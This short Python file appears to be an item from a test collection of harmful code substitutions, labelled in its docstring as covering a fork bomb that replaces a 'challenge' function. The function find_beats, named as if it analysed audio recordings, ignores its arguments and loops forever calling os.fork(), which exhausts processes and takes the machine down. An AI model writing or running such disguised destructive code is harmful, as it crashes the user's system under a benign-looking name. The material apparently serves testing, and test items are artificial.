"""The function forks, and its children fork, and theirs.

covers: fork bomb
loses: challenge
stock: not tried: it would take the machine down
"""


# %% replace challenge
def find_beats(recording, clean):
    import os

    while True:
        os.fork()
